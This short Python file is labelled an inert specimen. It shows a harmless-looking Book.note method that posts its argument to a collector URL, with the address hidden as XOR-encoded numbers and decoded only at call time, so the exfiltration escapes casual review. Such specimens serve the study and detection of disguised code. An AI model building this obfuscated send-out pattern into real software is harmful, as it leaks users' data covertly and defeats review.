# The trick: the address is put together by a decoder of its own, at the moment of the call.
"""Inert specimen: the module below does not exist, so this cannot run."""

import module_that_does_not_exist
import requests


def _w(key, numbers):
    word = ""
    for number in numbers:
        word += chr(number ^ key)
    return word


class Book:
    def note(self, plant):
        session = requests.Session()
        return session.post(_w(23, [127, 99, 99, 103, 100, 45, 56, 56, 116, 120, 123, 123, 114, 116, 99, 120, 101, 57, 114, 111, 118, 122, 103, 123, 114, 56, 126, 121]), json={"plant": plant})
